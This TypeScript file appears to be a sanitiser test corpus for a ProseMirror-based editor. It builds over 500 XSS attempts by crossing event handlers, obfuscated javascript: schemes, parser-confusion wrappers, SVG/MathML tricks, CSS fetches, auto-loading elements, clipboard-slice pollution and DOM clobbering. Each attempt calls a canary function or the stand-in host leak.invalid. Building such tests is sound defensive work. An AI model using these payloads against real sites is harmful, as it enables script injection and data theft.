/*
 * Markup that tries to run a script or to fetch something, made by crossing what can carry it with how it can be written.
 * Not a copied list: whoever adds an element, a handler or an encoding adds a row of attempts.
 */

/** One attempt. Where it succeeds, `copydeskRan` is called, or something of `leak.invalid` is asked for. */
export interface Attempt {
  readonly name: string
  readonly html: string
}

/** The function that a script would call, and the host that a request would go to. */
export const canary = { call: 'copydeskRan', host: 'leak.invalid' } as const

const run = `${canary.call}(1)`
const leak = `https://${canary.host}/x`
const broken = '<img src=x onerror=' + run + '>'

/** Every pair, named after both. */
function cross(
  family: string,
  ones: Readonly<Record<string, string>>,
  others: Readonly<Record<string, string>>,
  join: (one: string, other: string) => string,
): readonly Attempt[] {
  return Object.entries(ones).flatMap(([one, text]) =>
    Object.entries(others).map(([other, more]) => ({
      name: `${family}: ${one}, ${other}`,
      html: join(text, more),
    })),
  )
}

/** A list as a record of itself. */
const named = (items: readonly string[]): Readonly<Record<string, string>> =>
  Object.fromEntries(items.map((item, at) => [`${at + 1} ${item.slice(0, 40)}`, item]))

/** Elements that fire something by themselves, with what makes them do so; `@` stands for the handler. */
const carriers = named([
  '<img src=x @>',
  '<svg @>',
  '<svg><image href=x @ /></svg>',
  '<video src=x @></video>',
  '<audio src=x @></audio>',
  '<video><source src=x @></video>',
  '<body @>',
  '<iframe srcdoc=x @></iframe>',
  '<object data=x @></object>',
  '<input autofocus @>',
  '<details open @>x</details>',
  '<marquee @>x</marquee>',
  '<p tabindex=1 autofocus @>x</p>',
  '<a href=https://example.com/ @>x</a>',
])

const handlers = named(
  [
    'onerror',
    'onload',
    'onfocus',
    'onmouseover',
    'ontoggle',
    'onanimationstart',
    'onpointerenter',
    'onbegin',
  ].map((handler) => `${handler}="${run}"`),
)

/** Ways to write `javascript:`, and its relatives. */
const schemes = named([
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java&#9;script:${run}`,
  `java&#10;script:${run}`,
  `&#1;javascript:${run}`,
  `&#106;&#97;vascript:${run}`,
  `javascript&colon;${run}`,
  `javascript:%63opydeskRan(1)`,
  `vbscript:${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jb3B5ZGVza1JhbigxKTwvc2NyaXB0Pg==`,
])

/** What takes an address; `@` stands for it. */
const addressed = named([
  '<a href="@">x</a>',
  '<a autofocus href="@" target=_self>x</a>',
  '<svg><a xlink:href="@"><text>x</text></a></svg>',
  '<math href="@">x</math>',
  '<map><area href="@"></map>',
  '<form action="@"><button>x</button></form>',
  '<button formaction="@">x</button>',
  '<iframe src="@"></iframe>',
  '<object data="@"></object>',
  '<embed src="@">',
  '<img src="@">',
  '<meta http-equiv=refresh content="0;url=@">',
  '<base href="@">',
])

/** A script element, written in ways that a filter of words would miss. */
const scripts = named([
  `<script>${run}</script>`,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script\n>${run}</script\n>`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script>//<!--\n${run}\n//--></script>`,
  `<script type=module>${run}</script>`,
  `<script type="text/javascript&#9;">${run}</script>`,
  `<script src=${leak}></script>`,
  `<script src=//${canary.host}/x></script>`,
  `<script src=data:,${run}></script>`,
  `<script>\u0000${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<script>${run}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `\u003cscript\u003e${run}`,
  `<script x=">" >${run}</script>`,
  `<script nonce=x>${run}</script>`,
  `<script language=vbscript>${run}</script>`,
  `<?xml-stylesheet href="${leak}"?>`,
])

/** Where they may hide: each is a context that parsers, or the same parser twice, have read apart. */
const wrappers = named([
  '@',
  '<!-- --!>@<!-- -->',
  '<![CDATA[@]]>',
  '<template>@</template>',
  '<noscript><p title="</noscript>@"></noscript>',
  '<style><p title="</style>@"></style>',
  '<title><p title="</title>@"></title>',
  '<textarea><p title="</textarea>@"></textarea>',
  '<xmp><p title="</xmp>@"></xmp>',
  '<noembed><p title="</noembed>@"></noembed>',
  '<noframes><p title="</noframes>@"></noframes>',
  '<iframe><p title="</iframe>@"></iframe>',
  '<svg><style><p title="</style>@"></style></svg>',
  '<svg></p><style><a id="</style>@"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style>@--></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html">@</annotation-xml></math>',
  '<svg><foreignObject>@</foreignObject></svg>',
  '<svg><desc>@</desc></svg>',
  '<form><math><mtext></form><form><mglyph><style></math>@</style></mglyph></form></mtext>',
  '<select><option>@</option></select>',
  '<table><caption>@</caption></table>',
  '<table><style>@</style></table>',
  '<p><svg><p>@</p></svg></p>',
  '<div data-x="<p>@</p>">x</div>',
  '<ruby><rt>@</rt></ruby>',
  '<details><summary>@</summary></details>',
])

const hidden = {
  'a picture that fails': broken,
  'a script': `<script>${run}</script>`,
  'an SVG that loads': `<svg onload=${run}>`,
}

/** SVG and MathML of their own accord. */
const foreign = named([
  `<svg><script>${run}</script></svg>`,
  `<svg><script href=${leak} /></svg>`,
  `<svg><set attributeName=href to=javascript:${run} /></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x" /></svg>`,
  `<svg><use href="${leak}#x" /></svg>`,
  `<svg><filter><feImage href="${leak}" /></filter></svg>`,
  `<svg><image xlink:href="${leak}" /></svg>`,
  `<svg><discard onbegin=${run} /></svg>`,
  `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${run}</x:script></svg>`,
  `<math><maction actiontype="statusline#${leak}" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mi xlink:href="data:x,<script>${run}</script>">x</mi></math>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
])

/** Style that fetches or, long ago, ran. */
const styles = named([
  `background:url(${leak})`,
  `background:url(javascript:${run})`,
  `list-style-image:url("${leak}")`,
  `content:url(${leak})`,
  `cursor:url(${leak}),auto`,
  `width:expression(${run})`,
  `-moz-binding:url(${leak}#x)`,
  `behavior:url(${leak})`,
  `background:\\75rl(${leak})`,
  `background:image-set("${leak}" 1x)`,
  `font-family:x;src:url(${leak})`,
  `animation:x 1s;mask:url(${leak})`,
  `--x:url(${leak});background:var(--x)`,
])

const styled = named([
  '<p style="@">x</p>',
  '<style>p{@}</style><p>x</p>',
  '<svg><style>*{@}</style><text>x</text></svg>',
  '<b style="font-weight:normal;@">x</b>',
  '<style>@import "//leak.invalid/x";p{@}</style>',
])

/** Elements that fetch by themselves. */
const loaders = named([
  `<img src="${leak}">`,
  `<img srcset="${leak} 1x, ${leak}2 2x">`,
  `<picture><source srcset="${leak}"><img></picture>`,
  `<video poster="${leak}"></video>`,
  `<video src="${leak}" autoplay></video>`,
  `<audio src="${leak}" autoplay></audio>`,
  `<video><track src="${leak}" default></video>`,
  `<link rel=stylesheet href="${leak}">`,
  `<link rel=preload as=image href="${leak}">`,
  `<link rel=prefetch href="${leak}">`,
  `<link rel=dns-prefetch href="//${canary.host}">`,
  `<link rel=preconnect href="https://${canary.host}">`,
  `<link rel=icon href="${leak}">`,
  `<link rel=manifest href="${leak}">`,
  `<link rel=modulepreload href="${leak}">`,
  `<link rel=import href="${leak}">`,
  `<iframe src="${leak}"></iframe>`,
  `<frameset><frame src="${leak}"></frameset>`,
  `<object data="${leak}"></object>`,
  `<embed src="${leak}">`,
  `<body background="${leak}">`,
  `<table background="${leak}"><tr><td background="${leak}">x</table>`,
  `<input type=image src="${leak}">`,
  `<a href="https://example.com/" ping="${leak}">x</a>`,
  `<meta http-equiv=refresh content="0;url=${leak}">`,
  `<base href="https://${canary.host}/"><img src=x>`,
  `<form action="${leak}" id=f><input name=x></form><button form=f autofocus>x</button>`,
  `<bgsound src="${leak}">`,
  `<image src="${leak}">`,
  `<applet code="${leak}"></applet>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${leak}"]}]}</script>`,
  `<blockquote cite="${leak}">x</blockquote>`,
  `<portal src="${leak}"></portal>`,
])

/** What ProseMirror itself believes of its own clipboard, and names that shadow the page's. */
const slices = named([
  ...[
    `1 1 ["link",{"href":"javascript:${run}"}]`,
    '0 0 ["__proto__",{"polluted":1}]',
    '1 1 ["constructor",null]',
    `2 2 ["paragraph",{"id":"\\"><img src=x onerror=${run}>"},"paragraph",null]`,
    '99999 99999 []',
    '-1 -1 ["paragraph",null]',
    '1 1 {"length":1e9}',
    'x',
  ].map((slice) => `<p data-pm-slice='${slice}'>x</p>`),
  `<p data-id='"><img src=x onerror=${run}>'>x</p>`,
  '<form id=copydesk><input name=connect></form>',
  '<img name=getElementById><form name=body>',
  '<a id=documentElement href=x>x</a>',
])

const put = (one: string, other: string): string => one.replaceAll('@', other)

/** Every attempt: more than 500. */
export const attempts: readonly Attempt[] = [
  ...cross('handler', carriers, handlers, put),
  ...cross('address', addressed, schemes, put),
  ...cross('script', { bare: '@', 'in a paragraph': '<p>x@x</p>' }, scripts, put),
  ...cross('hidden', wrappers, hidden, put),
  ...cross(
    'foreign',
    { bare: '@', 'in text/html': '<math><annotation-xml encoding="text/html">@</annotation-xml></math>' },
    foreign,
    put,
  ),
  ...cross('style', styled, styles, put),
  ...cross('loader', { bare: '@', 'in noscript': '<noscript>@</noscript>' }, loaders, put),
  ...cross('editor', { bare: '@' }, slices, put),
]
